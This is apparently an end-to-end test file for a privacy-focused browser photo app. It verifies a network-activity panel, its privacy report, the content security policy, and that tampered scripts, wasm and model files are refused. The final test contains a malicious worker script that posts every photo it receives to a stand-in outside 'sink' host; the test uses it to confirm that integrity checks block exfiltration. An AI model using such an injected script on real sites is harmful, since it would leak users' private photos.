// What a person can check: the panel, its report, and that no file comes changed.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, test } from "node:test";
import { launch, until } from "./browser.mjs";
import { open } from "./hushtag.mjs";
import { folder } from "./photos.mjs";
import { changed, serve, sink } from "./site.mjs";

let browser, site, files;

before(async () => {
  [browser, site, files] = await Promise.all([launch(), serve(), folder()]);
});

after(async () => {
  await browser?.close();
  site?.close();
  await files?.remove();
});

const showPanel = async (hushtag) => {
  await hushtag.page.click('[data-testid="privacy"]');
  await until("the panel", () => hushtag.page.$('[data-testid="visit-sums"]'));
};

const listed = (page) =>
  page.$$eval('[data-testid="visit-files"] tr', (rows) =>
    rows.map((row) => {
      const [address, size, from] = [...row.cells].map((cell) => cell.textContent);
      return { address, size, from };
    }),
  );

test("the panel lists, while it happens, every file that the server was asked for", async () => {
  const before = site.requests.length;
  const hushtag = await open(browser, site);
  const { page } = hushtag;
  await showPanel(hushtag);
  const atFirst = (await listed(page)).length;
  assert.ok(atFirst >= 5, `${atFirst} files`);
  await hushtag.closeDialog();
  await hushtag.drop([await files.copy("cat.jpg")]);
  await showPanel(hushtag);
  const isThere = async () => (await listed(page)).some(({ address }) => address.includes("/models/captioner-step"));
  await until("the models in the list", isThere, { timeout: 120_000 });
  await hushtag.closeDialog();
  await hushtag.settled(1);
  await showPanel(hushtag);
  const files_ = await listed(page);
  const addresses = new Set(files_.map(({ address }) => address));
  // The icon is the browser's own business, not the page's.
  const asked = site.requests.slice(before).filter(({ target }) => !target.endsWith(".svg"));
  assert.ok(asked.length > 10, `${asked.length} requests`);
  assert.deepEqual(asked.map(({ target }) => target).filter((target) => !addresses.has(target)), []);
  assert.deepEqual(files_.filter(({ from }) => from === "elsewhere"), []);
  const sums = await page.$eval('[data-testid="visit-sums"]', ({ textContent }) => textContent);
  assert.match(sums, /^\d+ files, all from this site: [\d.]+ MB over the network/);
  assert.deepEqual(await hushtag.problems(), []);
  await hushtag.close();
});

test("what the policy stops is listed, and the report names photos only when asked", async () => {
  const hushtag = await open(browser, site);
  const { page } = hushtag;
  await hushtag.drop([await files.copy("coffee.jpg")]);
  await hushtag.settled(1);
  await showPanel(hushtag);
  const stopped = () => page.$$eval('[data-testid="visit-stopped"] li', (lines) => lines.map((line) => line.textContent));
  assert.deepEqual(await stopped(), []);
  await hushtag.press("Try to send a test word");
  const [line] = await until("what was stopped", async () => (await stopped()).length > 0 && stopped());
  assert.match(line, /connect-src.*hushtag\.invalid/);
  assert.equal((await stopped()).length, 1, "once, though two policies stop it");

  const saved = async () => JSON.parse(await readFile(await hushtag.saved(() => hushtag.press("Save report")), "utf8"));
  const report = await saved();
  assert.equal(report.photos, 1);
  assert.ok(!JSON.stringify(report).includes("coffee.jpg"), JSON.stringify(report.photo_names));
  assert.ok(report.loaded.some(({ address, bytes }) => address.includes("app_bg") && bytes > 100_000));
  assert.match(report.policy, /default-src 'none'.*connect-src 'self'/);
  assert.match(report.stopped[0].address, /hushtag\.invalid/);
  assert.ok(report.limits.length > 0, "it says what it cannot prove");
  assert.equal(report.tested.length, 4);
  assert.ok(report.tested.every((line) => line.endsWith("the browser stopped it.")), report.tested.join("\n"));
  await page.$$eval("dialog[open] label.check input", ([input]) => input.click());
  assert.deepEqual((await saved()).photo_names, ["coffee.jpg"]);
  await hushtag.close();
});

test("licences and bill of materials are linked and served", async () => {
  const hushtag = await open(browser, site);
  await showPanel(hushtag);
  const links = await hushtag.page.$$eval("dialog[open] a.link", (links) => links.map(({ href }) => href));
  const [licences, sbom] = await Promise.all(links.map((href) => fetch(href).then((answer) => answer.text())));
  assert.match(licences, /tract-onnx [\d.]+: .*MIT[\s\S]*YuNet/);
  assert.equal(JSON.parse(sbom).bomFormat, "CycloneDX");
  await hushtag.close();
});

/** Each still does what it did: only the bytes tell. */
const line = (bytes) => Buffer.concat([bytes, Buffer.from("\n")]);
const section = (bytes) => Buffer.concat([bytes, Buffer.from([0, 2, 1, 0x61])]);
const bit = (bytes) => {
  bytes[bytes.length >> 1] ^= 1;
  return bytes;
};

for (const [what, pattern, change, said] of [
  ["the page's script", /app-entry\.\w+\.js$/, line, /app-entry.*is not the file this page was built with/],
  ["a style", /components\.\w+\.css$/, line, /components.*is not the file this page was built with/],
  ["the page's wasm", /app_bg\.\w+\.wasm$/, section, /code did not come, or is not what this page was built with/],
  ["the script before all others", /boot\.\w+\.js$/, line, /a file of the page was changed on its way/],
]) {
  test(`${what} with a byte changed is refused before the page stands`, async () => {
    const other = await changed(site, (url) => pattern.test(url), change);
    const page = await browser.newPage();
    try {
      await page.goto(other.address);
      await until("a word on it", async () => said.test(await page.$eval("body", (body) => body.innerText)), { timeout: 20_000 });
      assert.ok(other.hits.length > 0, "the file was asked for");
      if (!/css/.test(pattern.source)) assert.equal(await page.$('[data-testid="app"]'), null);
    } finally {
      await page.close();
      other.close();
    }
  });
}

for (const [what, pattern, change, said] of [
  ["the worker's first script", /worker-boot\.\w+\.js$/, line, /worker-boot.*is not the file this page was built with/],
  ["the worker's script", /worker\.\w+\.js$/, line, /worker\..*is not the file this page was built with/],
  ["what tries the policy", /self-test\.\w+\.js$/, line, /self-test.*is not the file this page was built with/],
  ["the worker's wasm", /worker_bg\.\w+\.wasm$/, section, /worker_bg.*is not the file this page was built with/],
  ["the list of models", /manifest\.\w+\.json$/, line, /manifest.*is not the file this page was built with/],
  ["a model", /yunet\.\w+\.onnx/, bit, /YuNet could not be loaded: its SHA-256 is/],
]) {
  test(`${what} with a byte changed is refused, and the page says so`, async () => {
    const other = await changed(site, (url) => pattern.test(url), change);
    const hushtag = await open(browser, other);
    try {
      await hushtag.drop([await files.copy("cat.jpg")]);
      const text = () => hushtag.page.$eval("body", (body) => body.innerText);
      await until("a word on it", async () => said.test(await text()), { timeout: 120_000 });
      assert.ok(other.hits.length > 0, "the file was asked for");
    } finally {
      await hushtag.close();
      other.close();
    }
  });
}

test("a cache that answers a worker with another script than the page runs nothing, and no photo leaves", async () => {
  const outside = await sink();
  // Posts every file it is handed, and goes on as if nothing were.
  const evil = (body) => `addEventListener("message", ({ data }) => {
    for (const part of [data].flat(9)) if (part instanceof Blob) fetch("${outside.address}/photo", { method: "POST", mode: "no-cors", body: part });
  });\nfetch("${outside.address}/ran", { mode: "no-cors" });\n${body}`;
  const isForWorker = (url, { "sec-fetch-dest": wanted }) => /\/worker[\w-]*\.\w+\.js$/.test(url) && wanted !== "empty";
  // Nothing is kept, so that a second request is answered with the right bytes.
  const without = ["content-security-policy", "connection-allowlist", "cache-control"];
  const other = await changed(site, isForWorker, evil, { without });
  const hushtag = await open(browser, other);
  try {
    await hushtag.drop([await files.copy("cat.jpg")]);
    const [tile] = await hushtag.settled(1);
    assert.equal(tile.state, "to-review", JSON.stringify(tile));
    assert.deepEqual(outside.hits, []);
    assert.deepEqual(other.hits, [], "the scripts are fetched by the page alone, which checks them");
    const workers = hushtag.page.workers().map((worker) => worker.url());
    assert.ok(workers.length > 0 && workers.every((url) => url.startsWith("blob:")), `${workers}`);
  } finally {
    await hushtag.close();
    other.close();
    outside.close();
  }
});
